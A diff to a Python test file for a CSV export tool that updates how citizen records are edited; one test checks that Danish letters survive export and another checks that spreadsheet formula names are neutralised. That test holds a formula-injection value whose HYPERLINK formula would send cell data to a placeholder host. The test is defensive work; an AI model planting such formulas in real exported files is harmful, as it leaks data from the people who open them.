@@ -66,7 +66,7 @@ def test_danish_letters_survive(run_cli, demo_db, demo_store, tmp_path) -> None:
     from store.commands import citizens
 
     first = demo_store.caseload(limit=None)[0]
-    demo_store.run(citizens.edit, citizen_id=first.citizen_id, name="Åse Ærø-Søgård")
+    demo_store.execute(citizens.EditCitizen(citizen_id=first.citizen_id, changes={"name": "Åse Ærø-Søgård"}))
     rows = export(run_cli, demo_db, tmp_path / "c.csv", "caseload")
     assert "Åse Ærø-Søgård" in {r[0] for r in rows}
     assert "Åse Ærø-Søgård".encode("utf-8") in (tmp_path / "c.csv").read_bytes()
@@ -86,8 +86,8 @@ def test_formula_names_are_neutralised(run_cli, demo_db, demo_store, tmp_path) -
 
     evil = '=HYPERLINK("http://example.invalid/?x="&A1;"klik")'
     first, second = demo_store.caseload(limit=None)[:2]
-    demo_store.run(citizens.edit, citizen_id=first.citizen_id, name=evil)
-    demo_store.run(citizens.edit, citizen_id=second.citizen_id, name="@SUM(1+1)")
+    demo_store.execute(citizens.EditCitizen(citizen_id=first.citizen_id, changes={"name": evil}))
+    demo_store.execute(citizens.EditCitizen(citizen_id=second.citizen_id, changes={"name": "@SUM(1+1)"}))
     for table in ("caseload", "deadlines"):
         names = {r[0] for r in export(run_cli, demo_db, tmp_path / f"{table}.csv", table)}
         assert "'" + evil in names and "'@SUM(1+1)" in names
